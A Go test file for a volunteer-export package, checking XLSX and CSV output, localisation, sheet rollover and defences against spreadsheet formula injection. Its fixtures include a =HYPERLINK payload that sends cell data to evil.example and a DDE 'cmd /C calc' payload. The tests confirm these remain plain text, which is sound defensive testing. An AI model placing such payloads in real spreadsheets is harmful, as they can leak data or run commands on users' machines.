package report

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/csv"
	"errors"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/civisphere/civisphere/backend/domain"
	"github.com/xuri/excelize/v2"
)

// frLabels stands for what the service builds from the taxonomy and the French catalogue.
func frLabels() VolunteerExportLabels {
	skills := map[string]string{"accounting": "Comptabilité", "graphic-design": "Graphisme", "law": "Droit"}
	levels := map[domain.SkillLevel]string{
		domain.LevelBeginner: "débutant", domain.LevelIntermediate: "intermédiaire",
		domain.LevelConfirmed: "confirmé", domain.LevelExpert: "expert",
	}
	causes := map[domain.Cause]string{"education": "Éducation", "culture": "Culture", "heritage": "Patrimoine"}
	languages := map[string]string{"fr": "français", "en": "anglais", "ru": "russe", "vi": "vietnamien"}
	days := map[string]string{"monday": "lundi", "thursday": "jeudi", "saturday": "samedi"}
	return VolunteerExportLabels{
		Locale:    "fr",
		SheetName: "Bénévoles",
		Headers: VolunteerExportHeaders{
			FirstName: "Prénom", LastName: "Nom", Email: "E-mail", Phone: "Téléphone", City: "Ville",
			Postcode: "Code postal", Skills: "Compétences", Causes: "Causes", Languages: "Langues",
			Availability: "Disponibilités", HoursPerMonth: "Heures par mois", Bio: "Présentation",
			Notes: "Notes internes", JoinedOn: "Arrivée", Status: "Statut", CreatedAt: "Créé le",
			UpdatedAt: "Modifié le", Consents: "Consentements",
		},
		SkillName: func(id, fallback string) string {
			if l, ok := skills[id]; ok {
				return l
			}
			return fallback
		},
		Level:    func(l domain.SkillLevel) string { return levels[l] },
		Cause:    func(c domain.Cause) string { return causes[c] },
		Language: func(code string) string { return languages[code] },
		Availability: func(a domain.Availability) string {
			var parts []string
			for _, d := range a.Days {
				parts = append(parts, days[d])
			}
			if a.Evenings {
				parts = append(parts, "soirs")
			}
			s := strings.Join(parts, ", ")
			if a.Mode == domain.ModeRemote {
				s += " · à distance"
			}
			return s
		},
		Status: func(s domain.VolunteerStatus) string {
			return map[domain.VolunteerStatus]string{domain.StatusActive: "actif", domain.StatusArchived: "archivé"}[s]
		},
	}
}

func enLabels() VolunteerExportLabels {
	l := frLabels()
	l.Locale = "en"
	l.SheetName = "Volunteers"
	l.Headers = VolunteerExportHeaders{
		FirstName: "First name", LastName: "Last name", Email: "Email", Phone: "Phone", City: "City",
		Postcode: "Postcode", Skills: "Skills", Causes: "Causes", Languages: "Languages",
		Availability: "Availability", HoursPerMonth: "Hours per month", Bio: "Bio", Notes: "Notes",
		JoinedOn: "Joined on", Status: "Status", CreatedAt: "Created", UpdatedAt: "Updated", Consents: "Consents",
	}
	l.Level = func(l domain.SkillLevel) string { return string(l) }
	return l
}

var (
	created = time.Date(2024, 3, 5, 8, 30, 0, 0, time.UTC)
	updated = time.Date(2025, 11, 20, 17, 45, 0, 0, time.UTC)
)

// testVolunteers: French data with accents, other scripts, and text that looks like a formula.
func testVolunteers() []domain.Volunteer {
	return []domain.Volunteer{
		{
			FirstName: "Élodie", LastName: "Lefèvre", Email: "elodie.lefevre@example.fr",
			Phone: "+33 6 12 34 56 78", City: "Besançon", Postcode: "25000",
			Skills: []domain.VolunteerSkill{
				{SkillID: "accounting", Name: "comptabilite", Level: domain.LevelConfirmed},
				{SkillID: "graphic-design", Level: domain.LevelExpert},
			},
			Causes:    []domain.Cause{"education", "heritage"},
			Languages: []string{"fr", "en"},
			Availability: domain.Availability{
				Days: []string{"monday", "thursday"}, Evenings: true, HoursPerMonth: 12, Mode: domain.ModeRemote,
			},
			Bio:       "Expert-comptable à la retraite.\nBénévole à l'Œuvre des Orphelins d'Auteuil ; « très » disponible, \"vraiment\".",
			Notes:     "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Cliquez\")",
			JoinedOn:  "2023-03-15",
			Status:    domain.StatusActive,
			CreatedAt: created,
			UpdatedAt: updated,
		},
		{
			FirstName: "Ольга", LastName: "Петрова", Email: "olga@example.org", Phone: "06 98 76 54 32",
			City: "Saint-Étienne", Postcode: "42000",
			Skills:    []domain.VolunteerSkill{{SkillID: "custom:apiculture", Name: "Apiculture", Level: domain.LevelBeginner}},
			Languages: []string{"ru", "fr"},
			Bio:       "- traduction\n- accompagnement",
			Notes:     "@SUM(1+1)*cmd|' /C calc'!A0",
			Status:    domain.StatusArchived,
			CreatedAt: created,
			UpdatedAt: updated,
		},
		{
			FirstName: "Thị Lan", LastName: "Nguyễn", City: "Œuvre-sur-Loire", Postcode: "01000",
			Skills:    []domain.VolunteerSkill{{SkillID: "custom:-x", Name: "+cmd", Level: domain.LevelIntermediate}},
			Languages: []string{"vi"},
			Bio:       "\tTab first",
			Status:    domain.StatusActive,
		},
	}
}

func sliceSource(vs []domain.Volunteer) VolunteerSource {
	i := 0
	return func() (domain.Volunteer, bool, error) {
		if i >= len(vs) {
			return domain.Volunteer{}, false, nil
		}
		i++
		return vs[i-1], true, nil
	}
}

// countSource yields n generated volunteers without keeping them.
func countSource(n int) VolunteerSource {
	i := 0
	return func() (domain.Volunteer, bool, error) {
		if i >= n {
			return domain.Volunteer{}, false, nil
		}
		i++
		return generatedVolunteer(i), true, nil
	}
}

func generatedVolunteer(i int) domain.Volunteer {
	firsts := []string{"Élodie", "Jean-Baptiste", "Ольга", "Thị Lan", "Zoé", "François", "Ægir", "Łukasz"}
	lasts := []string{"Lefèvre", "Dupont", "Петрова", "Nguyễn", "Müller", "Œhmichen", "Ștefan", "Garcia"}
	cities := []string{"Besançon", "Lyon", "Saint-Étienne", "Marseille", "Lille", "Nantes"}
	ids := []string{"accounting", "graphic-design", "law", "custom:apiculture"}
	v := domain.Volunteer{
		FirstName: firsts[i%len(firsts)],
		LastName:  lasts[(i/3)%len(lasts)],
		Email:     fmt.Sprintf("benevole%d@example.fr", i),
		Phone:     fmt.Sprintf("06 %02d %02d %02d %02d", i%100, (i/7)%100, (i/11)%100, (i/13)%100),
		City:      cities[i%len(cities)],
		Postcode:  fmt.Sprintf("%05d", 1000+i%94000),
		Causes:    []domain.Cause{domain.Causes[i%len(domain.Causes)], domain.Causes[(i+5)%len(domain.Causes)]},
		Languages: []string{"fr", "en"},
		Availability: domain.Availability{
			Days: []string{"monday", "thursday"}, Evenings: i%2 == 0, HoursPerMonth: i % 30,
		},
		Bio:       strings.Repeat("Bénévole engagé·e dans l'associatif depuis des années. ", 1+i%6),
		JoinedOn:  time.Date(2015+i%10, time.Month(1+i%12), 1+i%28, 0, 0, 0, 0, time.UTC).Format(time.DateOnly),
		Status:    domain.StatusActive,
		CreatedAt: created.Add(time.Duration(i) * time.Minute),
		UpdatedAt: updated.Add(time.Duration(i) * time.Minute),
	}
	for k := 0; k < 1+i%4; k++ {
		v.Skills = append(v.Skills, domain.VolunteerSkill{SkillID: ids[(i+k)%len(ids)], Name: "Apiculture", Level: domain.SkillLevels[(i+k)%4]})
	}
	if i%10 == 0 {
		v.Notes = "Rappeler en septembre.\nPréfère les missions à distance."
	}
	return v
}

func TestNeutralizeFormula(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"", ""},
		{"Élodie", "Élodie"},
		{"=1+1", "'=1+1"},
		{"=HYPERLINK(\"http://x\")", "'=HYPERLINK(\"http://x\")"},
		{"+33 6 12 34 56 78", "'+33 6 12 34 56 78"},
		{"-2+3", "'-2+3"},
		{"- une liste", "'- une liste"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"06 12 34 56 78", "06 12 34 56 78"},
		{"a=b", "a=b"},
		{"'déjà cité", "'déjà cité"},
		{"\n=1", "\n=1"},
		{"Œuvre", "Œuvre"},
	} {
		if got := neutralizeFormula(tc.in); got != tc.want {
			t.Errorf("neutralizeFormula(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

func TestSheetNames(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"Bénévoles", "Bénévoles"},
		{"Bénévoles: 2024/2025 [actifs]?", "Bénévoles- 2024-2025 -actifs--"},
		{"'Bénévoles'", "Bénévoles"},
		{"  ", ""},
		{strings.Repeat("é", 40), strings.Repeat("é", 31)},
		{strings.Repeat("a", 30) + "😀", strings.Repeat("a", 30)},
	} {
		if got := cleanSheetName(tc.in); got != tc.want {
			t.Errorf("cleanSheetName(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
	if got := sheetNameN("Bénévoles", 2); got != "Bénévoles (2)" {
		t.Errorf("sheetNameN = %q", got)
	}
	long := strings.Repeat("b", 31)
	if got := sheetNameN(long, 12); got != strings.Repeat("b", 26)+" (12)" || len(got) != 31 {
		t.Errorf("sheetNameN(long) = %q", got)
	}
	if got := formatFor(VolunteerExportLabels{Locale: "en"}).sheetName; got != "Volunteers" {
		t.Errorf("default English sheet name = %q", got)
	}
	if got := formatFor(VolunteerExportLabels{}).sheetName; got != "Bénévoles" {
		t.Errorf("default sheet name = %q", got)
	}
}

func writeXLSX(t testing.TB, vs []domain.Volunteer, labels VolunteerExportLabels) []byte {
	t.Helper()
	var buf bytes.Buffer
	n, err := WriteVolunteersXLSX(&buf, sliceSource(vs), labels)
	if err != nil {
		t.Fatal(err)
	}
	if n != len(vs) {
		t.Fatalf("rows = %d, want %d", n, len(vs))
	}
	return buf.Bytes()
}

func openXLSX(t testing.TB, data []byte) *excelize.File {
	t.Helper()
	f, err := excelize.OpenReader(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = f.Close() })
	return f
}

// sheetXML gives the raw XML of the n-th worksheet (1-based), for what excelize cannot read back.
func sheetXML(t testing.TB, data []byte, n int) string {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		t.Fatal(err)
	}
	rc, err := zr.Open(fmt.Sprintf("xl/worksheets/sheet%d.xml", n))
	if err != nil {
		t.Fatal(err)
	}
	defer rc.Close()
	b, err := io.ReadAll(rc)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

// hasAutoFilter tells whether a sheet's XML has an autofilter over A1:R<lastRow>. excelize
// writes the reference in absolute form ($A$1:$R$4), which Excel and LibreOffice accept.
func hasAutoFilter(sheetXML string, lastRow int) bool {
	return regexp.MustCompile(fmt.Sprintf(`<autoFilter ref="\$?A\$?1:\$?R\$?%d"`, lastRow)).MatchString(sheetXML)
}

func cellValue(t testing.TB, f *excelize.File, sheet, cell string, opts ...excelize.Options) string {
	t.Helper()
	v, err := f.GetCellValue(sheet, cell, opts...)
	if err != nil {
		t.Fatal(err)
	}
	return v
}

func cellStyle(t testing.TB, f *excelize.File, sheet, cell string) *excelize.Style {
	t.Helper()
	id, err := f.GetCellStyle(sheet, cell)
	if err != nil {
		t.Fatal(err)
	}
	s, err := f.GetStyle(id)
	if err != nil {
		t.Fatal(err)
	}
	return s
}

func TestWriteVolunteersXLSX(t *testing.T) {
	data := writeXLSX(t, testVolunteers(), frLabels())
	f := openXLSX(t, data)
	const sheet = "Bénévoles"
	if got := f.GetSheetList(); len(got) != 1 || got[0] != sheet {
		t.Fatalf("sheets = %q", got)
	}

	rows, err := f.GetRows(sheet)
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 4 {
		t.Fatalf("%d rows, want header + 3", len(rows))
	}
	wantHeader := []string{"Prénom", "Nom", "E-mail", "Téléphone", "Ville", "Code postal", "Compétences", "Causes",
		"Langues", "Disponibilités", "Heures par mois", "Présentation", "Notes internes", "Arrivée", "Statut",
		"Créé le", "Modifié le", "Consentements"}
	if strings.Join(rows[0], "|") != strings.Join(wantHeader, "|") {
		t.Errorf("header = %q", rows[0])
	}
	hs := cellStyle(t, f, sheet, "A1")
	if hs.Font == nil || !hs.Font.Bold || hs.Fill.Type != "pattern" || len(hs.Fill.Color) == 0 {
		t.Errorf("header style = %+v (font %+v), want bold and filled", hs, hs.Font)
	}

	panes, err := f.GetPanes(sheet)
	if err != nil {
		t.Fatal(err)
	}
	if !panes.Freeze || panes.YSplit != 1 || panes.XSplit != 0 || panes.TopLeftCell != "A2" {
		t.Errorf("panes = %+v, want the header row frozen", panes)
	}
	if x := sheetXML(t, data, 1); !hasAutoFilter(x, 4) {
		t.Errorf("no autofilter over A1:R4 in the sheet XML")
	}
	if x := sheetXML(t, data, 1); !regexp.MustCompile(`<ignoredError sqref="A2:R4" numberStoredAsText="(1|true)"`).MatchString(x) {
		t.Errorf("postcodes stored as text are not marked as intended")
	}
	foundName := false
	for _, dn := range f.GetDefinedName() {
		if dn.Name == "_xlnm._FilterDatabase" && dn.RefersTo == "'Bénévoles'!$A$1:$R$4" {
			foundName = true
		}
	}
	if !foundName {
		t.Errorf("no _FilterDatabase defined name: %+v", f.GetDefinedName())
	}
	for col, want := range map[string]float64{"A": 16, "C": 30, "G": 50, "L": 60, "K": 19} {
		if w, _ := f.GetColWidth(sheet, col); w != want {
			t.Errorf("width of column %s = %v, want %v", col, w, want)
		}
	}

	// Texts, in every script, as stored.
	want := map[string]string{
		"A2": "Élodie", "B2": "Lefèvre", "D2": "+33 6 12 34 56 78", "E2": "Besançon", "F2": "25000",
		"G2": "Comptabilité (confirmé), Graphisme (expert)", "H2": "Éducation, Patrimoine",
		"I2": "français, anglais", "J2": "lundi, jeudi, soirs · à distance", "O2": "actif",
		"L2": testVolunteers()[0].Bio,
		"A3": "Ольга", "B3": "Петрова", "G3": "Apiculture (débutant)", "I3": "russe, français", "O3": "archivé",
		"L3": "- traduction\n- accompagnement", "M3": "@SUM(1+1)*cmd|' /C calc'!A0",
		"A4": "Thị Lan", "B4": "Nguyễn", "E4": "Œuvre-sur-Loire", "F4": "01000", "G4": "+cmd (intermédiaire)",
		"L4": "\tTab first", "K4": "", "N4": "", "P4": "", "M4": "",
	}
	for cell, w := range want {
		if got := cellValue(t, f, sheet, cell); got != w {
			t.Errorf("%s = %q, want %q", cell, got, w)
		}
	}

	// Formula-looking text stays text: an inline string, no formula.
	for _, cell := range []string{"M2", "D2", "L3", "M3", "G4", "L4"} {
		typ, err := f.GetCellType(sheet, cell)
		if err != nil {
			t.Fatal(err)
		}
		if typ != excelize.CellTypeInlineString {
			t.Errorf("%s type = %v, want an inline string", cell, typ)
		}
		if formula, err := f.GetCellFormula(sheet, cell); err != nil || formula != "" {
			t.Errorf("%s formula = %q (%v), want none", cell, formula, err)
		}
	}
	if got := cellValue(t, f, sheet, "M2"); got != testVolunteers()[0].Notes {
		t.Errorf("M2 = %q, want the notes unchanged", got)
	}

	// Hours: a number.
	if typ, _ := f.GetCellType(sheet, "K2"); typ == excelize.CellTypeInlineString || typ == excelize.CellTypeSharedString {
		t.Errorf("K2 is a string cell")
	}
	if got := cellValue(t, f, sheet, "K2", excelize.Options{RawCellValue: true}); got != "12" {
		t.Errorf("K2 = %q, want 12", got)
	}

	// JoinedOn: a date serial with a dd/mm/yyyy format.
	raw := cellValue(t, f, sheet, "N2", excelize.Options{RawCellValue: true})
	if raw != "45000" { // 2023-03-15
		t.Errorf("N2 raw = %q, want the serial 45000", raw)
	}
	if got := cellValue(t, f, sheet, "N2"); got != "15/03/2023" {
		t.Errorf("N2 shown as %q, want 15/03/2023", got)
	}
	if s := cellStyle(t, f, sheet, "N2"); s.CustomNumFmt == nil || *s.CustomNumFmt != "dd/mm/yyyy" {
		t.Errorf("N2 number format = %v", s.CustomNumFmt)
	}

	// CreatedAt / UpdatedAt: date-time serials in local time.
	for cell, at := range map[string]time.Time{"P2": created, "Q2": updated} {
		raw := cellValue(t, f, sheet, cell, excelize.Options{RawCellValue: true})
		serial, err := strconv.ParseFloat(raw, 64)
		if err != nil {
			t.Fatalf("%s = %q is not a number", cell, raw)
		}
		got, err := excelize.ExcelDateToTime(serial, false)
		if err != nil {
			t.Fatal(err)
		}
		local := at.In(time.Local)
		wantWall := time.Date(local.Year(), local.Month(), local.Day(), local.Hour(), local.Minute(), local.Second(), 0, time.UTC)
		if d := got.Sub(wantWall); d < -time.Second || d > time.Second {
			t.Errorf("%s = %v, want the local wall time %v", cell, got, wantWall)
		}
		if s := cellStyle(t, f, sheet, cell); s.CustomNumFmt == nil || *s.CustomNumFmt != "dd/mm/yyyy hh:mm" {
			t.Errorf("%s number format = %v", cell, s.CustomNumFmt)
		}
		if shown := cellValue(t, f, sheet, cell); shown != local.Format("02/01/2006 15:04") {
			t.Errorf("%s shown as %q, want %q", cell, shown, local.Format("02/01/2006 15:04"))
		}
	}

	// Bio and notes wrap.
	for _, cell := range []string{"L2", "M2"} {
		if s := cellStyle(t, f, sheet, cell); s.Alignment == nil || !s.Alignment.WrapText {
			t.Errorf("%s does not wrap", cell)
		}
	}
}

func TestWriteVolunteersXLSXEnglish(t *testing.T) {
	data := writeXLSX(t, testVolunteers()[:1], enLabels())
	f := openXLSX(t, data)
	if got := f.GetSheetList(); len(got) != 1 || got[0] != "Volunteers" {
		t.Fatalf("sheets = %q", got)
	}
	if got := cellValue(t, f, "Volunteers", "N2"); got != "2023-03-15" {
		t.Errorf("N2 shown as %q, want 2023-03-15", got)
	}
	if got := cellValue(t, f, "Volunteers", "G2"); got != "Comptabilité (confirmed), Graphisme (expert)" {
		t.Errorf("G2 = %q", got)
	}
}

func TestWriteVolunteersXLSXEdgeCases(t *testing.T) {
	// No labels at all: codes, API field names, no panic.
	vs := testVolunteers()
	vs[0].JoinedOn = "15/03/2023" // not a valid stored date: kept as text
	vs[1].CreatedAt = time.Time{}
	data := writeXLSX(t, vs, VolunteerExportLabels{})
	f := openXLSX(t, data)
	const sheet = "Bénévoles"
	for cell, w := range map[string]string{
		"A1": "firstName", "Q1": "updatedAt", "G2": "comptabilite (confirmed), graphic-design (expert)",
		"H2": "education, heritage", "J2": "monday, thursday, evenings, remote", "N2": "15/03/2023",
		"O3": "archived", "P3": "",
	} {
		if got := cellValue(t, f, sheet, cell); got != w {
			t.Errorf("%s = %q, want %q", cell, got, w)
		}
	}

	// An empty list still gives a valid workbook with its header.
	data = writeXLSX(t, nil, frLabels())
	f = openXLSX(t, data)
	rows, err := f.GetRows("Bénévoles")
	if err != nil || len(rows) != 1 || rows[0][0] != "Prénom" {
		t.Errorf("empty export rows = %q, %v", rows, err)
	}
	if x := sheetXML(t, data, 1); !hasAutoFilter(x, 1) {
		t.Errorf("no autofilter on the empty sheet")
	}
}

func TestWriteVolunteersXLSXRollover(t *testing.T) {
	defer func(old int) { maxDataRowsPerSheet = old }(maxDataRowsPerSheet)
	maxDataRowsPerSheet = 3

	// Exactly full: no empty second sheet.
	f := openXLSX(t, writeXLSX(t, testVolunteers(), frLabels()))
	if got := f.GetSheetList(); len(got) != 1 {
		t.Errorf("3 rows with 3 per sheet gave sheets %q", got)
	}

	var buf bytes.Buffer
	n, err := WriteVolunteersXLSX(&buf, countSource(7), frLabels())
	if err != nil || n != 7 {
		t.Fatalf("rows = %d, err = %v", n, err)
	}
	data := buf.Bytes()
	f = openXLSX(t, data)
	sheets := f.GetSheetList()
	if strings.Join(sheets, "|") != "Bénévoles|Bénévoles (2)|Bénévoles (3)" {
		t.Fatalf("sheets = %q", sheets)
	}
	seen := 0
	for i, sheet := range sheets {
		rows, err := f.GetRows(sheet)
		if err != nil {
			t.Fatal(err)
		}
		wantData := []int{3, 3, 1}[i]
		if len(rows) != 1+wantData {
			t.Errorf("%s has %d rows, want %d", sheet, len(rows), 1+wantData)
		}
		if rows[0][0] != "Prénom" {
			t.Errorf("%s header = %q", sheet, rows[0])
		}
		for _, r := range rows[1:] {
			seen++
			if want := fmt.Sprintf("benevole%d@example.fr", seen); r[colEmail] != want {
				t.Errorf("%s: e-mail %q, want %q (rows out of order or lost)", sheet, r[colEmail], want)
			}
		}
		panes, err := f.GetPanes(sheet)
		if err != nil || !panes.Freeze || panes.YSplit != 1 {
			t.Errorf("%s panes = %+v, %v", sheet, panes, err)
		}
		if x := sheetXML(t, data, i+1); !hasAutoFilter(x, 1+wantData) {
			t.Errorf("%s has no autofilter over its rows", sheet)
		}
		if w, _ := f.GetColWidth(sheet, "L"); w != 60 {
			t.Errorf("%s bio width = %v", sheet, w)
		}
	}
	if seen != 7 {
		t.Errorf("read back %d volunteers, want 7", seen)
	}
	if got := f.GetActiveSheetIndex(); got != 0 {
		t.Errorf("active sheet = %d, want the first", got)
	}
}

func TestWriteVolunteersSourceError(t *testing.T) {
	boom := errors.New("annulé")
	failing := func() VolunteerSource {
		next := countSource(5)
		i := 0
		return func() (domain.Volunteer, bool, error) {
			i++
			if i == 4 {
				return domain.Volunteer{}, false, boom
			}
			return next()
		}
	}
	var buf bytes.Buffer
	n, err := WriteVolunteersXLSX(&buf, failing(), frLabels())
	if !errors.Is(err, boom) || n != 3 {
		t.Errorf("XLSX: rows %d, err %v; want 3 and the source's error", n, err)
	}
	if buf.Len() != 0 {
		t.Errorf("XLSX: %d bytes written despite the error", buf.Len())
	}
	buf.Reset()
	n, err = WriteVolunteersCSV(&buf, failing(), frLabels())
	if !errors.Is(err, boom) || n != 3 {
		t.Errorf("CSV: rows %d, err %v; want 3 and the source's error", n, err)
	}
}

type failingWriter struct{}

func (failingWriter) Write([]byte) (int, error) { return 0, errors.New("disque plein") }

func TestWriteVolunteersWriterError(t *testing.T) {
	if _, err := WriteVolunteersXLSX(failingWriter{}, countSource(3), frLabels()); err == nil || !strings.Contains(err.Error(), "disque plein") {
		t.Errorf("XLSX: err = %v", err)
	}
	if _, err := WriteVolunteersCSV(failingWriter{}, countSource(3), frLabels()); err == nil || !strings.Contains(err.Error(), "disque plein") {
		t.Errorf("CSV: err = %v", err)
	}
}

func readCSV(t *testing.T, data []byte, comma rune) [][]string {
	t.Helper()
	if !bytes.HasPrefix(data, []byte("\xEF\xBB\xBF")) {
		t.Fatalf("no UTF-8 BOM: % x", data[:min(8, len(data))])
	}
	r := csv.NewReader(bytes.NewReader(data[3:]))
	r.Comma = comma
	records, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return records
}

func TestWriteVolunteersCSV(t *testing.T) {
	var buf bytes.Buffer
	n, err := WriteVolunteersCSV(&buf, sliceSource(testVolunteers()), frLabels())
	if err != nil || n != 3 {
		t.Fatalf("rows = %d, err = %v", n, err)
	}
	data := buf.Bytes()
	// Every line ends with CRLF, including the line breaks inside the quoted bios.
	if bytes.Contains(bytes.ReplaceAll(data, []byte("\r\n"), nil), []byte("\n")) {
		t.Errorf("bare LF in the CSV")
	}
	if !bytes.HasSuffix(data, []byte("\r\n")) {
		t.Errorf("the CSV does not end with CRLF")
	}
	if !bytes.HasPrefix(data, []byte("\uFEFFPrénom;Nom;E-mail;")) {
		t.Errorf("CSV starts with %q", data[:min(40, len(data))])
	}
	records := readCSV(t, data, ';')
	if len(records) != 4 {
		t.Fatalf("%d records, want 4", len(records))
	}
	for _, rec := range records {
		if len(rec) != numColumns {
			t.Fatalf("record with %d fields: %q", len(rec), rec)
		}
	}
	local := func(at time.Time) string { return at.In(time.Local).Format("02/01/2006 15:04") }
	want := map[[2]int]string{
		{0, colFirstName}: "Prénom", {0, colUpdatedAt}: "Modifié le",
		{1, colFirstName}: "Élodie", {1, colLastName}: "Lefèvre", {1, colCity}: "Besançon",
		{1, colPhone}:         "'+33 6 12 34 56 78",
		{1, colSkills}:        "Comptabilité (confirmé), Graphisme (expert)",
		{1, colAvailability}:  "lundi, jeudi, soirs · à distance",
		{1, colHoursPerMonth}: "12",
		{1, colBio}:           testVolunteers()[0].Bio, // line break, ";" and quotes survive
		{1, colNotes}:         "'" + testVolunteers()[0].Notes,
		{1, colJoinedOn}:      "15/03/2023",
		{1, colStatus}:        "actif",
		{1, colCreatedAt}:     local(created),
		{1, colUpdatedAt}:     local(updated),
		{2, colFirstName}:     "Ольга", {2, colLastName}: "Петрова", {2, colPhone}: "06 98 76 54 32",
		{2, colBio}:           "'- traduction\n- accompagnement",
		{2, colNotes}:         "'@SUM(1+1)*cmd|' /C calc'!A0",
		{2, colHoursPerMonth}: "", {2, colJoinedOn}: "",
		{3, colLastName}: "Nguyễn", {3, colCity}: "Œuvre-sur-Loire", {3, colPostcode}: "01000",
		{3, colSkills}: "'+cmd (intermédiaire)", {3, colBio}: "'\tTab first", {3, colCreatedAt}: "",
	}
	for at, w := range want {
		if got := records[at[0]][at[1]]; got != w {
			t.Errorf("record %d field %d = %q, want %q", at[0], at[1], got, w)
		}
	}
}

func TestWriteVolunteersCSVEnglish(t *testing.T) {
	var buf bytes.Buffer
	if _, err := WriteVolunteersCSV(&buf, sliceSource(testVolunteers()), enLabels()); err != nil {
		t.Fatal(err)
	}
	records := readCSV(t, buf.Bytes(), ',')
	if records[0][0] != "First name" || len(records[0]) != numColumns {
		t.Errorf("header = %q", records[0])
	}
	if got := records[1][colJoinedOn]; got != "2023-03-15" {
		t.Errorf("joined on = %q", got)
	}
	if got, want := records[1][colCreatedAt], created.In(time.Local).Format("2006-01-02 15:04"); got != want {
		t.Errorf("created = %q, want %q", got, want)
	}
	// The bio holds a ";" but no ",": quoted all the same because of its line break and quotes.
	if got := records[1][colBio]; got != testVolunteers()[0].Bio {
		t.Errorf("bio = %q", got)
	}
}

// TestXLSXOpensInLibreOffice converts a generated workbook with LibreOffice, as a person opening
// the file would, and checks what it shows.
func TestXLSXOpensInLibreOffice(t *testing.T) {
	soffice, err := exec.LookPath("soffice")
	if err != nil {
		t.Fatal("soffice (LibreOffice) is not installed: run make deps (.ci/install-deps installs it)")
	}
	defer func(old int) { maxDataRowsPerSheet = old }(maxDataRowsPerSheet)
	maxDataRowsPerSheet = 2 // three sheets from the three test volunteers plus two more

	dir := t.TempDir()
	vs := append(testVolunteers(), generatedVolunteer(1), generatedVolunteer(2))
	in := filepath.Join(dir, "benevoles.xlsx")
	if err := os.WriteFile(in, writeXLSX(t, vs, frLabels()), 0o600); err != nil {
		t.Fatal(err)
	}
	out := filepath.Join(dir, "out")
	// 44 = ",", 34 = '"', 76 = UTF-8, from row 1, standard cell formats, no language, quote all
	// text (false), detect special numbers, save as shown, no formulas, keep spaces, -1 = one
	// file per sheet.
	runSoffice(t, soffice, dir, `csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,true,false,false,-1`, out, in)
	files, _ := filepath.Glob(filepath.Join(out, "*.csv"))
	if len(files) != 3 {
		t.Fatalf("LibreOffice wrote %q, want one CSV per sheet (3)", files)
	}
	first := ""
	for _, name := range files {
		b, err := os.ReadFile(name)
		if err != nil {
			t.Fatal(err)
		}
		if strings.HasSuffix(name, "-Bénévoles.csv") {
			first = string(b)
		}
		rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(b, []byte("\uFEFF")))).ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		if len(rows) < 2 || rows[0][0] != "Prénom" {
			t.Errorf("%s: rows %q", filepath.Base(name), rows)
		}
	}
	if first == "" {
		t.Fatalf("no CSV for the first sheet among %q", files)
	}
	rows, _ := csv.NewReader(strings.NewReader(strings.TrimPrefix(first, "\uFEFF"))).ReadAll()
	if len(rows) != 3 {
		t.Fatalf("first sheet as LibreOffice sees it: %q", rows)
	}
	local := created.In(time.Local).Format("02/01/2006 15:04")
	for i, w := range map[int]string{
		colFirstName: "Élodie", colPhone: "+33 6 12 34 56 78", colHoursPerMonth: "12",
		colNotes:    testVolunteers()[0].Notes, // not evaluated
		colJoinedOn: "15/03/2023", colCreatedAt: local, colBio: testVolunteers()[0].Bio,
	} {
		if got := rows[1][i]; got != w {
			t.Errorf("LibreOffice shows column %d as %q, want %q", i, got, w)
		}
	}
	for i, w := range map[int]string{colFirstName: "Ольга", colNotes: "@SUM(1+1)*cmd|' /C calc'!A0", colBio: "- traduction\n- accompagnement"} {
		if got := rows[2][i]; got != w {
			t.Errorf("LibreOffice shows row 3 column %d as %q, want %q", i, got, w)
		}
	}
	if regexp.MustCompile(`(?i)#(NAME|VALUE|REF)`).MatchString(first) {
		t.Errorf("LibreOffice evaluated something:\n%s", first)
	}

	// Saved again as XLSX by LibreOffice: it read the autofilter, the dates as numbers and the
	// formula-looking notes as text. (Headless conversion drops view settings such as frozen
	// panes, whatever the source, so those are checked in TestWriteVolunteersXLSX only.)
	out2 := filepath.Join(dir, "out2")
	runSoffice(t, soffice, dir, "xlsx", out2, in)
	resaved, err := os.ReadFile(filepath.Join(out2, "benevoles.xlsx"))
	if err != nil {
		t.Fatal(err)
	}
	if x := sheetXML(t, resaved, 1); !hasAutoFilter(x, 3) {
		t.Errorf("LibreOffice lost the autofilter of the first sheet")
	}
	f := openXLSX(t, resaved)
	if got := f.GetSheetList(); strings.Join(got, "|") != "Bénévoles|Bénévoles (2)|Bénévoles (3)" {
		t.Errorf("LibreOffice sheets = %q", got)
	}
	if got := cellValue(t, f, "Bénévoles", "N2", excelize.Options{RawCellValue: true}); got != "45000" {
		t.Errorf("LibreOffice joined-on value = %q, want the date serial 45000", got)
	}
	if got, _ := f.GetCellFormula("Bénévoles", "M2"); got != "" {
		t.Errorf("LibreOffice turned the notes into the formula %q", got)
	}
	if got := cellValue(t, f, "Bénévoles", "M2"); got != testVolunteers()[0].Notes {
		t.Errorf("LibreOffice notes = %q", got)
	}
}

func runSoffice(t *testing.T, soffice, dir, filter, outDir, in string) {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Minute)
	defer cancel()
	cmd := exec.CommandContext(ctx, soffice,
		// A profile of its own, so a running LibreOffice or the user's settings do not interfere.
		"-env:UserInstallation=file://"+filepath.ToSlash(filepath.Join(dir, "profile")),
		"--headless", "--norestore", "--convert-to", filter, "--outdir", outDir, in)
	if output, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("soffice --convert-to %s: %v\n%s", filter, err, output)
	}
}

func BenchmarkWriteVolunteersXLSX(b *testing.B) {
	const n = 10000
